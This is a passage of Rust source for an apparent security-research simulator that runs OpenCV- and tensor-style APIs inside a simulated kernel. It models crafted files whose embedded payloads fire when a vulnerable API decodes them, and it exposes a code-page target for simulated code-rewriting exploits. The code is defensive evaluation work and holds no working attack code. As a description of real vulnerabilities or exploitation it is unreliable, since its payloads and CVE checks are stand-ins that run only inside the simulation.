    fn kernel(&self) -> &Kernel;

    /// The object store.
    fn objects(&self) -> &freepart_frameworks::ObjectStore;

    /// The host/application process.
    fn host_pid(&self) -> Pid;

    /// Exploit actions observed so far.
    fn exploit_log(&self) -> &[ActionReport];

    /// Simultaneous access to the pieces attack judgment needs:
    /// mutable kernel (memory reads), object store, and host pid.
    fn attack_view(&mut self) -> (&mut Kernel, &freepart_frameworks::ObjectStore, Pid);

    /// Address of an executable code page in the process that runs
    /// `cv2.imread` — the target of code-rewriting exploits.
    fn code_target(&mut self) -> u64;

    /// Number of processes the scheme uses.
    fn process_count(&self) -> usize;

    /// Called by the application after its initialization section —
    /// schemes that lock things down post-setup (memory-based
    /// protection) hook this. Default: no-op.
    fn finish_setup(&mut self) {}

    /// Drops a named instant mark into the scheme's trace timeline, when
    /// it keeps one (pipeline phase boundaries: per-sample, per-frame).
    /// Default: no-op — baselines without tracing ignore marks.
    fn trace_mark(&mut self, _label: &str) {}
}

impl ApiSurface for Runtime {
    fn scheme_name(&self) -> &'static str {
        "FreePart"
    }

    fn call(&mut self, name: &str, args: &[Value]) -> Result<Value, CallError> {
        Runtime::call(self, name, args)
    }

    fn host_data(&mut self, label: &str, bytes: &[u8]) -> ObjectId {
        Runtime::host_data(self, label, bytes)
    }

    fn create_object(
        &mut self,
        kind: freepart_frameworks::ObjectKind,
        label: &str,
        bytes: &[u8],
    ) -> ObjectId {
        Runtime::host_object(self, kind, label, bytes)
    }

    fn fetch_bytes(&mut self, id: ObjectId) -> Result<Vec<u8>, CallError> {
        Runtime::fetch_bytes(self, id)
    }

    fn kernel_mut(&mut self) -> &mut Kernel {
        &mut self.kernel
    }

    fn kernel(&self) -> &Kernel {
        &self.kernel
    }

    fn objects(&self) -> &freepart_frameworks::ObjectStore {
        &self.objects
    }

    fn host_pid(&self) -> Pid {
        self.host_pid()
    }

    fn exploit_log(&self) -> &[ActionReport] {
        &self.exploit_log
    }

    fn attack_view(&mut self) -> (&mut Kernel, &freepart_frameworks::ObjectStore, Pid) {
        let host = Runtime::host_pid(self);
        (&mut self.kernel, &self.objects, host)
    }

    fn code_target(&mut self) -> u64 {
        let imread = self
            .registry()
            .id_of("cv2.imread")
            .expect("catalog has imread");
        let partition = self.partition_of(imread);
        self.agent(partition)
            .expect("loading agent exists")
            .code_page
            .0
    }

    fn process_count(&self) -> usize {
        self.kernel.process_count()
    }

    fn trace_mark(&mut self, label: &str) {
        Runtime::trace_mark(self, label);
    }
}
