//! Execution of framework APIs inside a process context.
//!
//! [`execute`] is the single entry point: given a registry, an API id,
//! arguments, and an [`ApiCtx`] (which fixes *which process* the body
//! runs as), it performs the API's real work — syscalls through the
//! kernel, pixel/tensor math on buffers read from simulated memory —
//! and returns a [`Value`].
//!
//! Two security-relevant behaviours live here:
//!
//! * **Exploit triggering.** Crafted files carry [`ExploitPayload`]s;
//!   when a *vulnerable* API decodes one (or receives a tainted object),
//!   the payload runs in the current process context before/instead of
//!   the API completing — exactly the paper's threat model.
//! * **Locality discipline.** An API may only touch objects homed in its
//!   own process. Isolation runtimes must move data first; a violation is
//!   a [`FrameworkError::RemoteObject`] (a harness bug, never silent
//!   cross-process access).

use crate::api::{
    ApiId, ApiKind, ApiRegistry, ApiSpec, BinaryOp, FilterOp, TensorUnaryOp, WindowOp,
};
use crate::ctx::ApiCtx;
use crate::exploit::{run_payload, ExploitPayload};
use crate::fileio;
use crate::image::{self, Image, Rect};
use crate::ir::{FlowOp, Storage};
use crate::object::{ObjectId, ObjectKind, ObjectMeta};
use crate::tensor::{self, PoolKind, Tensor};
use crate::value::Value;
use freepart_simos::{DeviceKind, Errno, SimError, Syscall, SyscallRet};
use std::fmt;

/// Default camera frame geometry (64×64 BGR).
pub const CAMERA_W: u32 = 64;
/// Camera frame height.
pub const CAMERA_H: u32 = 64;
/// Camera frame channels.
pub const CAMERA_CH: u32 = 3;
/// Camera frame length in bytes.
pub const CAMERA_FRAME_LEN: usize = (CAMERA_W * CAMERA_H * CAMERA_CH) as usize;

/// Errors from framework-API execution.
#[derive(Debug, Clone, PartialEq)]
pub enum FrameworkError {
    /// Kernel-level failure — including process crashes caused by
    /// exploits or permission faults.
    Sim(SimError),
    /// Wrong argument count/types for the API.
    BadArgs(String),
    /// A file failed to parse.
    Parse(String),
    /// The API touched an object homed in another process (an isolation
    /// runtime forgot to move it).
    RemoteObject(ObjectId),
    /// The object id is not live.
    NoSuchObject(ObjectId),
}

impl fmt::Display for FrameworkError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FrameworkError::Sim(e) => write!(f, "kernel: {e}"),
            FrameworkError::BadArgs(m) => write!(f, "bad arguments: {m}"),
            FrameworkError::Parse(m) => write!(f, "parse failure: {m}"),
            FrameworkError::RemoteObject(id) => write!(f, "object {id} is remote"),
            FrameworkError::NoSuchObject(id) => write!(f, "object {id} is not live"),
        }
    }
}

impl std::error::Error for FrameworkError {}

impl From<SimError> for FrameworkError {
    fn from(e: SimError) -> Self {
        FrameworkError::Sim(e)
    }
}

impl FrameworkError {
    /// True when the underlying cause is a process crash.
    pub fn is_crash(&self) -> bool {
        matches!(self, FrameworkError::Sim(e) if e.is_fault())
            || matches!(self, FrameworkError::Sim(SimError::ProcessDead(_)))
    }
}

type ExecResult = Result<Value, FrameworkError>;

// ----------------------------------------------------------------------
// Argument helpers
// ----------------------------------------------------------------------

fn want_str(args: &[Value], i: usize) -> Result<String, FrameworkError> {
    args.get(i)
        .and_then(|v| v.as_str())
        .map(str::to_owned)
        .ok_or_else(|| FrameworkError::BadArgs(format!("arg {i} must be a string")))
}

fn want_i64(args: &[Value], i: usize) -> Result<i64, FrameworkError> {
    args.get(i)
        .and_then(|v| v.as_i64())
        .ok_or_else(|| FrameworkError::BadArgs(format!("arg {i} must be an integer")))
}

fn want_f64(args: &[Value], i: usize) -> Result<f64, FrameworkError> {
    args.get(i)
        .and_then(|v| v.as_f64())
        .ok_or_else(|| FrameworkError::BadArgs(format!("arg {i} must be numeric")))
}

fn want_obj(ctx: &ApiCtx<'_>, args: &[Value], i: usize) -> Result<ObjectMeta, FrameworkError> {
    let id = args
        .get(i)
        .and_then(Value::as_obj)
        .ok_or_else(|| FrameworkError::BadArgs(format!("arg {i} must be an object")))?;
    let meta = ctx
        .objects
        .meta(id)
        .ok_or(FrameworkError::NoSuchObject(id))?
        .clone();
    if meta.home != ctx.pid {
        return Err(FrameworkError::RemoteObject(id));
    }
    Ok(meta)
}

fn load_mat(ctx: &mut ApiCtx<'_>, meta: &ObjectMeta) -> Result<Image, FrameworkError> {
    let (w, h, ch) = match meta.kind {
        ObjectKind::Mat { w, h, ch } => (w, h, ch),
        _ => {
            return Err(FrameworkError::BadArgs(format!(
                "object {} is not a Mat",
                meta.id
            )))
        }
    };
    let bytes = ctx.objects.read_bytes(ctx.kernel, meta.id)?;
    Ok(Image::from_bytes(w, h, ch, bytes))
}

fn load_tensor(ctx: &mut ApiCtx<'_>, meta: &ObjectMeta) -> Result<Tensor, FrameworkError> {
    let shape = match &meta.kind {
        ObjectKind::Tensor { shape } => shape.clone(),
        ObjectKind::Model { .. } => {
            let len = meta.len() / 4;
            vec![len.max(1) as u32]
        }
        _ => {
            return Err(FrameworkError::BadArgs(format!(
                "object {} is not a tensor/model",
                meta.id
            )))
        }
    };
    let bytes = ctx.objects.read_bytes(ctx.kernel, meta.id)?;
    Ok(Tensor::from_bytes(&shape, &bytes))
}

fn new_mat(
    ctx: &mut ApiCtx<'_>,
    img: &Image,
    label: &str,
    taint: Option<ExploitPayload>,
) -> Result<Value, FrameworkError> {
    let id = ctx.objects.create_with_data(
        ctx.kernel,
        ctx.pid,
        ObjectKind::Mat {
            w: img.w,
            h: img.h,
            ch: img.ch,
        },
        label,
        &img.data,
    )?;
    ctx.objects.meta_mut(id).expect("just created").taint = taint;
    Ok(Value::Obj(id))
}

fn new_tensor(
    ctx: &mut ApiCtx<'_>,
    t: &Tensor,
    label: &str,
    taint: Option<ExploitPayload>,
) -> Result<Value, FrameworkError> {
    let id = ctx.objects.create_with_data(
        ctx.kernel,
        ctx.pid,
        ObjectKind::Tensor {
            shape: t.shape.clone(),
        },
        label,
        &t.to_bytes(),
    )?;
    ctx.objects.meta_mut(id).expect("just created").taint = taint;
    Ok(Value::Obj(id))
}

/// Coerces a flat tensor into the squarest rank-2 shape its length
/// permits (for conv/pool/matmul kernels on arbitrary inputs).
fn as_2d(t: &Tensor) -> Tensor {
    if t.shape.len() == 2 {
        return t.clone();
    }
    let n = t.len();
    let mut h = (n as f64).sqrt() as usize;
    while h > 1 && !n.is_multiple_of(h) {
        h -= 1;
    }
    let h = h.max(1);
    Tensor::from_data(&[h as u32, (n / h) as u32], t.data.clone())
}

/// Fires a tainted/crafted payload when the executing API is vulnerable
/// to its CVE. Returns `Err` if the payload crashed the process.
fn maybe_exploit(
    ctx: &mut ApiCtx<'_>,
    spec: &ApiSpec,
    payload: Option<&ExploitPayload>,
) -> Result<(), FrameworkError> {
    if let Some(p) = payload {
        if spec.vulnerable_to(&p.cve) {
            run_payload(ctx, p);
            if !ctx.kernel.is_running(ctx.pid) {
                return Err(FrameworkError::Sim(SimError::ProcessDead(ctx.pid)));
            }
        }
    }
    Ok(())
}

fn read_whole_file(ctx: &mut ApiCtx<'_>, path: &str) -> Result<Vec<u8>, FrameworkError> {
    let fd = match ctx.syscall(Syscall::Openat {
        path: path.to_owned(),
        create: false,
    })? {
        SyscallRet::NewFd(fd) => fd,
        _ => return Err(FrameworkError::Sim(Errno::Ebadf.into())),
    };
    let size = ctx.syscall(Syscall::Fstat { fd })?.num();
    let bytes = ctx.syscall(Syscall::Read { fd, len: size })?.bytes();
    ctx.syscall(Syscall::Close { fd })?;
    ctx.record_flow(FlowOp::write(Storage::Mem, Storage::File));
    Ok(bytes)
}

fn write_whole_file(
    ctx: &mut ApiCtx<'_>,
    path: &str,
    bytes: Vec<u8>,
) -> Result<(), FrameworkError> {
    let fd = match ctx.syscall(Syscall::Openat {
        path: path.to_owned(),
        create: true,
    })? {
        SyscallRet::NewFd(fd) => fd,
        _ => return Err(FrameworkError::Sim(Errno::Ebadf.into())),
    };
    ctx.syscall(Syscall::Write { fd, bytes })?;
    ctx.syscall(Syscall::Close { fd })?;
    ctx.record_flow(FlowOp::write(Storage::File, Storage::Mem));
    Ok(())
}

/// Finds (or opens, on first use) the process's GUI socket and returns
/// its fd — the paper's "connect only during the first execution".
fn gui_socket(ctx: &mut ApiCtx<'_>) -> Result<freepart_simos::Fd, FrameworkError> {
    let process = ctx.kernel.process(ctx.pid)?;
    let existing = process.open_fds().find(|fd| {
        matches!(
            process.fd_target(*fd),
            Some(freepart_simos::process::FdTarget::Socket { dest }) if dest.starts_with("gui")
        )
    });
    if let Some(fd) = existing {
        return Ok(fd);
    }
    let fd = match ctx.syscall(Syscall::Socket)? {
        SyscallRet::NewFd(fd) => fd,
        _ => return Err(FrameworkError::Sim(Errno::Ebadf.into())),
    };
    ctx.syscall(Syscall::Connect {
        fd,
        dest: "gui:display".to_owned(),
    })?;
    Ok(fd)
}

// ----------------------------------------------------------------------
// The dispatcher
// ----------------------------------------------------------------------

/// Executes API `api` with `args` inside `ctx`.
///
/// # Errors
///
/// See [`FrameworkError`]; crashes caused by exploits or the sandbox
/// surface as [`FrameworkError::Sim`].
pub fn execute(reg: &ApiRegistry, api: ApiId, args: &[Value], ctx: &mut ApiCtx<'_>) -> ExecResult {
    let spec = reg.spec(api).clone();
    match spec.kind {
        // ------------------------------------------------------ images
        ApiKind::ImRead => {
            let path = want_str(args, 0)?;
            let bytes = read_whole_file(ctx, &path)?;
            let (img, payload) = fileio::decode_image(&bytes)
                .map_err(|e| FrameworkError::Parse(format!("{path}: {e}")))?;
            maybe_exploit(ctx, &spec, payload.as_ref())?;
            charge(ctx, &spec, img.samples());
            // A patched loader keeps the malformed content as taint.
            let taint = payload.filter(|p| !spec.vulnerable_to(&p.cve));
            new_mat(ctx, &img, &path, taint)
        }
        ApiKind::ImWrite => {
            let path = want_str(args, 0)?;
            let meta = want_obj(ctx, args, 1)?;
            let img = load_mat(ctx, &meta)?;
            charge(ctx, &spec, img.samples());
            write_whole_file(ctx, &path, fileio::encode_image(&img, None))?;
            Ok(Value::Unit)
        }
        ApiKind::ImShow => {
            let title = want_str(args, 0)?;
            let meta = want_obj(ctx, args, 1)?;
            maybe_exploit(ctx, &spec, meta.taint.as_ref())?;
            let img = load_mat(ctx, &meta)?;
            let fd = gui_socket(ctx)?;
            ctx.syscall(Syscall::Send {
                fd,
                bytes: img.data.clone(),
            })?;
            ctx.syscall(Syscall::Select { fds: vec![fd] })?;
            let win = match ctx.kernel.display.find_window(&title) {
                Some(w) => w,
                None => ctx.kernel.win_create(&title),
            };
            ctx.kernel.win_present(win, img.data.len());
            ctx.record_flow(FlowOp::write(Storage::Gui, Storage::Mem));
            charge(ctx, &spec, img.samples() / 4);
            Ok(Value::Unit)
        }
        ApiKind::VideoCaptureNew => {
            let fd = match ctx.syscall(Syscall::Openat {
                path: "/dev/video0".to_owned(),
                create: false,
            })? {
                SyscallRet::NewFd(fd) => fd,
                _ => return Err(FrameworkError::Sim(Errno::Ebadf.into())),
            };
            ctx.syscall(Syscall::Ioctl { fd, request: 0 })?;
            ctx.syscall(Syscall::Mmap {
                len: CAMERA_FRAME_LEN as u64,
                perms: freepart_simos::Perms::RW,
            })?;
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Dev));
            let id = ctx.objects.create_handle(
                ctx.pid,
                ObjectKind::Capture { frames_read: 0 },
                "capture",
            );
            Ok(Value::Obj(id))
        }
        ApiKind::VideoCaptureRead => {
            let meta = want_obj(ctx, args, 0)?;
            let cam_fd = ctx
                .kernel
                .process(ctx.pid)?
                .fds_of_device(DeviceKind::Camera)
                .first()
                .copied();
            let cam_fd = match cam_fd {
                Some(fd) => fd,
                None => {
                    // Re-open after restart: the capture object survives,
                    // its descriptor does not.
                    match ctx.syscall(Syscall::Openat {
                        path: "/dev/video0".to_owned(),
                        create: false,
                    })? {
                        SyscallRet::NewFd(fd) => fd,
                        _ => return Err(FrameworkError::Sim(Errno::Ebadf.into())),
                    }
                }
            };
            ctx.syscall(Syscall::Ioctl {
                fd: cam_fd,
                request: 1,
            })?;
            ctx.syscall(Syscall::Select { fds: vec![cam_fd] })?;
            let frame = ctx.syscall(Syscall::Read { fd: cam_fd, len: 0 })?.bytes();
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Dev));
            if let Some(m) = ctx.objects.meta_mut(meta.id) {
                if let ObjectKind::Capture { frames_read } = &mut m.kind {
                    *frames_read += 1;
                }
            }
            let img = Image::from_bytes(CAMERA_W, CAMERA_H, CAMERA_CH, frame);
            charge(ctx, &spec, img.samples());
            new_mat(ctx, &img, "frame", None)
        }
        ApiKind::VideoWriterWrite => {
            let path = want_str(args, 0)?;
            let meta = want_obj(ctx, args, 1)?;
            let img = load_mat(ctx, &meta)?;
            charge(ctx, &spec, img.samples());
            // Append a frame record.
            let fd = match ctx.syscall(Syscall::Openat {
                path: path.clone(),
                create: true,
            })? {
                SyscallRet::NewFd(fd) => fd,
                _ => return Err(FrameworkError::Sim(Errno::Ebadf.into())),
            };
            let size = ctx.syscall(Syscall::Fstat { fd })?.num();
            ctx.syscall(Syscall::Lseek { fd, pos: size })?;
            ctx.syscall(Syscall::Write {
                fd,
                bytes: fileio::encode_image(&img, None),
            })?;
            ctx.syscall(Syscall::Close { fd })?;
            ctx.record_flow(FlowOp::write(Storage::File, Storage::Mem));
            Ok(Value::Unit)
        }
        ApiKind::ClassifierLoad => {
            let path = want_str(args, 0)?;
            let bytes = read_whole_file(ctx, &path)?;
            let payload = fileio::scan_payload(&bytes);
            maybe_exploit(ctx, &spec, payload.as_ref())?;
            charge(ctx, &spec, bytes.len() as u64);
            let stages = bytes.first().copied().unwrap_or(10) as u32 % 32 + 1;
            let id = ctx.objects.create_with_data(
                ctx.kernel,
                ctx.pid,
                ObjectKind::Classifier { stages },
                &path,
                &bytes,
            )?;
            ctx.objects.meta_mut(id).expect("just created").taint =
                payload.filter(|p| !spec.vulnerable_to(&p.cve));
            Ok(Value::Obj(id))
        }
        ApiKind::DetectMultiScale => {
            let clf = want_obj(ctx, args, 0)?;
            let meta = want_obj(ctx, args, 1)?;
            maybe_exploit(ctx, &spec, clf.taint.as_ref())?;
            maybe_exploit(ctx, &spec, meta.taint.as_ref())?;
            let img = load_mat(ctx, &meta)?;
            let hits = image::detect_multiscale(&img, 16, 400.0);
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, img.samples());
            Ok(Value::Rects(hits))
        }
        ApiKind::Filter(op) => {
            let meta = want_obj(ctx, args, 0)?;
            maybe_exploit(ctx, &spec, meta.taint.as_ref())?;
            let img = load_mat(ctx, &meta)?;
            let out = apply_filter(&img, op);
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, img.samples());
            new_mat(ctx, &out, &spec.name, meta.taint.clone())
        }
        ApiKind::Binary(op) => {
            let a = want_obj(ctx, args, 0)?;
            let b = want_obj(ctx, args, 1)?;
            maybe_exploit(ctx, &spec, a.taint.as_ref())?;
            let ia = load_mat(ctx, &a)?;
            let ib = load_mat(ctx, &b)?;
            if (ia.w, ia.h, ia.ch) != (ib.w, ib.h, ib.ch) {
                return Err(FrameworkError::BadArgs("geometry mismatch".into()));
            }
            let out = match op {
                BinaryOp::AbsDiff => image::abs_diff(&ia, &ib),
                BinaryOp::AddWeighted => image::add_weighted(&ia, 0.5, &ib),
            };
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, ia.samples());
            new_mat(ctx, &out, &spec.name, a.taint.clone().or(b.taint.clone()))
        }
        ApiKind::Resize => {
            let meta = want_obj(ctx, args, 0)?;
            maybe_exploit(ctx, &spec, meta.taint.as_ref())?;
            let img = load_mat(ctx, &meta)?;
            let w = want_i64(args, 1).unwrap_or((img.w / 2).max(1) as i64) as u32;
            let h = want_i64(args, 2).unwrap_or((img.h / 2).max(1) as i64) as u32;
            if w == 0 || h == 0 {
                return Err(FrameworkError::BadArgs("zero resize target".into()));
            }
            let out = image::resize(&img, w, h);
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, img.samples() + out.samples());
            new_mat(ctx, &out, &spec.name, meta.taint.clone())
        }
        ApiKind::Crop => {
            let meta = want_obj(ctx, args, 0)?;
            let img = load_mat(ctx, &meta)?;
            let r = Rect {
                x: want_i64(args, 1).unwrap_or(0) as u32,
                y: want_i64(args, 2).unwrap_or(0) as u32,
                w: want_i64(args, 3).unwrap_or((img.w / 2) as i64) as u32,
                h: want_i64(args, 4).unwrap_or((img.h / 2) as i64) as u32,
            };
            let out = image::crop(&img, r);
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, out.samples());
            new_mat(ctx, &out, &spec.name, meta.taint.clone())
        }
        ApiKind::DrawRect => {
            let meta = want_obj(ctx, args, 0)?;
            let mut img = load_mat(ctx, &meta)?;
            let r = Rect {
                x: want_i64(args, 1).unwrap_or(0) as u32,
                y: want_i64(args, 2).unwrap_or(0) as u32,
                w: want_i64(args, 3).unwrap_or(8) as u32,
                h: want_i64(args, 4).unwrap_or(8) as u32,
            };
            image::draw_rectangle(&mut img, r, 255);
            ctx.objects.write_bytes(ctx.kernel, meta.id, &img.data)?;
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, (r.w as u64 + r.h as u64) * 2);
            Ok(Value::Unit)
        }
        ApiKind::PutText => {
            let meta = want_obj(ctx, args, 0)?;
            let text = want_str(args, 1)?;
            let mut img = load_mat(ctx, &meta)?;
            image::put_text(
                &mut img,
                &text,
                want_i64(args, 2).unwrap_or(0) as u32,
                want_i64(args, 3).unwrap_or(0) as u32,
                255,
            );
            ctx.objects.write_bytes(ctx.kernel, meta.id, &img.data)?;
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, text.len() as u64 * 35);
            Ok(Value::Unit)
        }
        ApiKind::FindContours => {
            let meta = want_obj(ctx, args, 0)?;
            maybe_exploit(ctx, &spec, meta.taint.as_ref())?;
            let img = load_mat(ctx, &meta)?;
            let boxes = image::find_contours(&img);
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, img.samples());
            Ok(Value::Rects(boxes))
        }
        ApiKind::Reduce => {
            let meta = want_obj(ctx, args, 0)?;
            let img = load_mat(ctx, &meta)?;
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, img.samples());
            Ok(Value::F64(img.mean()))
        }
        ApiKind::Window(op) => run_window_op(ctx, &spec, op, args),

        // ------------------------------------------------------ tensors
        ApiKind::TensorLoad => {
            let path = want_str(args, 0)?;
            let bytes = read_whole_file(ctx, &path)?;
            let (t, payload) = match fileio::decode_tensor(&bytes) {
                Ok(ok) => ok,
                Err(_) => {
                    // Proto/pickle-style blobs: treat bytes as raw f32s.
                    let payload = fileio::scan_payload(&bytes);
                    let n = (bytes.len() / 4).max(1);
                    let data: Vec<f32> = bytes
                        .chunks_exact(4)
                        .take(n)
                        .map(|c| f32::from_le_bytes([c[0], c[1], c[2], c[3]]))
                        .collect();
                    let n = data.len().max(1) as u32;
                    (
                        Tensor::from_data(&[n], {
                            let mut d = data;
                            if d.is_empty() {
                                d.push(0.0);
                            }
                            d
                        }),
                        payload,
                    )
                }
            };
            maybe_exploit(ctx, &spec, payload.as_ref())?;
            charge(ctx, &spec, t.len() as u64);
            let taint = payload.filter(|p| !spec.vulnerable_to(&p.cve));
            new_tensor(ctx, &t, &path, taint)
        }
        ApiKind::TensorSave => {
            let path = want_str(args, 0)?;
            let meta = want_obj(ctx, args, 1)?;
            let t = load_tensor(ctx, &meta)?;
            charge(ctx, &spec, t.len() as u64);
            write_whole_file(ctx, &path, fileio::encode_tensor(&t, None))?;
            Ok(Value::Unit)
        }
        ApiKind::TensorUnary(op) => {
            let meta = want_obj(ctx, args, 0)?;
            maybe_exploit(ctx, &spec, meta.taint.as_ref())?;
            let t = load_tensor(ctx, &meta)?;
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, t.len() as u64);
            match op {
                TensorUnaryOp::Relu => {
                    new_tensor(ctx, &tensor::relu(&t), &spec.name, meta.taint.clone())
                }
                TensorUnaryOp::Sigmoid => {
                    new_tensor(ctx, &tensor::sigmoid(&t), &spec.name, meta.taint.clone())
                }
                TensorUnaryOp::Softmax => {
                    new_tensor(ctx, &tensor::softmax(&t), &spec.name, meta.taint.clone())
                }
                TensorUnaryOp::Argmax => Ok(Value::I64(t.argmax() as i64)),
                TensorUnaryOp::Sum => Ok(Value::F64(t.sum() as f64)),
                TensorUnaryOp::Reshape => {
                    let flat = Tensor::from_data(&[t.len() as u32], t.data.clone());
                    new_tensor(ctx, &flat, &spec.name, meta.taint.clone())
                }
            }
        }
        ApiKind::TensorConv => {
            let meta = want_obj(ctx, args, 0)?;
            maybe_exploit(ctx, &spec, meta.taint.as_ref())?;
            let t = as_2d(&load_tensor(ctx, &meta)?);
            let kernel = Tensor::from_data(&[3, 3], vec![1.0 / 9.0; 9]);
            let out = if t.shape[0] >= 3 && t.shape[1] >= 3 {
                tensor::conv2d(&t, &kernel)
            } else {
                t.clone()
            };
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, t.len() as u64 * 9);
            new_tensor(ctx, &out, &spec.name, meta.taint.clone())
        }
        ApiKind::TensorPoolMax | ApiKind::TensorPoolAvg => {
            let meta = want_obj(ctx, args, 0)?;
            maybe_exploit(ctx, &spec, meta.taint.as_ref())?;
            let t = as_2d(&load_tensor(ctx, &meta)?);
            let kind = if spec.kind == ApiKind::TensorPoolMax {
                PoolKind::Max
            } else {
                PoolKind::Avg
            };
            let out = tensor::pool2d(&t, 2, kind);
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, t.len() as u64);
            new_tensor(ctx, &out, &spec.name, meta.taint.clone())
        }
        ApiKind::TensorMatmul => {
            let meta = want_obj(ctx, args, 0)?;
            maybe_exploit(ctx, &spec, meta.taint.as_ref())?;
            let t = as_2d(&load_tensor(ctx, &meta)?);
            let k = t.shape[1];
            let weights = Tensor::generate(&[k, k.min(16)], |i| ((i % 7) as f32 - 3.0) * 0.1);
            let out = tensor::matmul(&t, &weights);
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, t.len() as u64 * k.min(16) as u64);
            new_tensor(ctx, &out, &spec.name, meta.taint.clone())
        }
        ApiKind::Forward => {
            let model = want_obj(ctx, args, 0)?;
            let input = want_obj(ctx, args, 1)?;
            maybe_exploit(ctx, &spec, model.taint.as_ref())?;
            maybe_exploit(ctx, &spec, input.taint.as_ref())?;
            let weights = load_tensor(ctx, &model)?;
            let x = as_2d(&load_tensor(ctx, &input)?);
            let kernel = Tensor::from_data(
                &[3, 3],
                weights.data.iter().cycle().take(9).copied().collect(),
            );
            let feat = if x.shape[0] >= 3 && x.shape[1] >= 3 {
                tensor::pool2d(
                    &tensor::relu(&tensor::conv2d(&x, &kernel)),
                    2,
                    PoolKind::Max,
                )
            } else {
                x.clone()
            };
            // Ten logits via strided dot products against the weights.
            let mut logits = vec![0.0f32; 10];
            for (i, logit) in logits.iter_mut().enumerate() {
                *logit = feat
                    .data
                    .iter()
                    .enumerate()
                    .map(|(j, &v)| v * weights.data[(i + j) % weights.data.len().max(1)])
                    .sum();
            }
            let out = tensor::softmax(&Tensor::from_data(&[10], logits));
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, x.len() as u64 * 16);
            new_tensor(ctx, &out, &spec.name, input.taint.clone())
        }
        ApiKind::TrainStep => {
            let model = want_obj(ctx, args, 0)?;
            let input = want_obj(ctx, args, 1)?;
            let target = want_f64(args, 2).unwrap_or(1.0);
            let w = load_tensor(ctx, &model)?;
            let x = load_tensor(ctx, &input)?;
            if w.shape != x.shape {
                return Err(FrameworkError::BadArgs("weights/input mismatch".into()));
            }
            let updated = tensor::sgd_step(&w, &x, target as f32, 0.01);
            // Stateful: the model object mutates in place.
            ctx.objects
                .write_bytes(ctx.kernel, model.id, &updated.to_bytes())?;
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, w.len() as u64 * 4);
            Ok(Value::F64({
                let pred: f32 = updated.data.iter().zip(&x.data).map(|(w, x)| w * x).sum();
                (pred - target as f32).abs() as f64
            }))
        }
        ApiKind::TensorNew => {
            let n = want_i64(args, 0)?.max(1) as u32;
            let t = Tensor::generate(&[n], |i| (i as f32 * 0.5).sin());
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Mem));
            charge(ctx, &spec, n as u64);
            new_tensor(ctx, &t, &spec.name, None)
        }
        ApiKind::DownloadViaFile => {
            let url = want_str(args, 0)?;
            // 1. Download (network device → memory).
            let sock = match ctx.syscall(Syscall::Socket)? {
                SyscallRet::NewFd(fd) => fd,
                _ => return Err(FrameworkError::Sim(Errno::Ebadf.into())),
            };
            ctx.syscall(Syscall::Connect {
                fd: sock,
                dest: url.clone(),
            })?;
            let downloaded = ctx
                .syscall(Syscall::Recvfrom {
                    fd: sock,
                    len: 4096,
                })?
                .bytes();
            ctx.syscall(Syscall::Close { fd: sock })?;
            ctx.record_flow(FlowOp::write(Storage::Mem, Storage::Dev));
            // 2. Spill to a temp file, 3. read it back — the
            //    memory-copy-via-file idiom the analyzer must reduce.
            let tmp = format!("/tmp/download-{}", url.len());
            write_whole_file(ctx, &tmp, downloaded)?;
            let bytes = read_whole_file(ctx, &tmp)?;
            charge(ctx, &spec, bytes.len() as u64);
            let id = ctx.objects.create_with_data(
                ctx.kernel,
                ctx.pid,
                ObjectKind::Blob,
                &url,
                &bytes,
            )?;
            Ok(Value::Obj(id))
        }
        ApiKind::DatasetLoad => {
            let dir = want_str(args, 0)?;
            let listing = ctx
                .syscall(Syscall::Getdents { path: dir.clone() })?
                .bytes();
            let paths: Vec<String> = String::from_utf8_lossy(&listing)
                .lines()
                .map(str::to_owned)
                .collect();
            if paths.is_empty() {
                return Err(FrameworkError::Parse(format!("{dir}: empty dataset")));
            }
            let mut batch = Vec::new();
            let mut first_payload = None;
            for p in &paths {
                let bytes = read_whole_file(ctx, p)?;
                if let Ok((img, payload)) = fileio::decode_image(&bytes) {
                    if first_payload.is_none() {
                        first_payload = payload;
                    }
                    batch.extend(img.data.iter().map(|&b| b as f32 / 255.0));
                }
            }
            maybe_exploit(ctx, &spec, first_payload.as_ref())?;
            if batch.is_empty() {
                batch.push(0.0);
            }
            let t = Tensor::from_data(&[batch.len() as u32], batch);
            charge(ctx, &spec, t.len() as u64);
            let taint = first_payload.filter(|p| !spec.vulnerable_to(&p.cve));
            new_tensor(ctx, &t, &dir, taint)
        }
        ApiKind::ReadCsv => {
            let path = want_str(args, 0)?;
            let bytes = read_whole_file(ctx, &path)?;
            let payload = fileio::scan_payload(&bytes);
            maybe_exploit(ctx, &spec, payload.as_ref())?;
            let rows = fileio::decode_csv(&bytes);
            let cols = rows.first().map_or(0, Vec::len) as u32;
            charge(ctx, &spec, bytes.len() as u64);
            let id = ctx.objects.create_with_data(
                ctx.kernel,
                ctx.pid,
                ObjectKind::Table {
                    rows: rows.len() as u32,
                    cols,
                },
                &path,
                &bytes,
            )?;
            Ok(Value::Obj(id))
        }
        ApiKind::WriteCsv => {
            let path = want_str(args, 0)?;
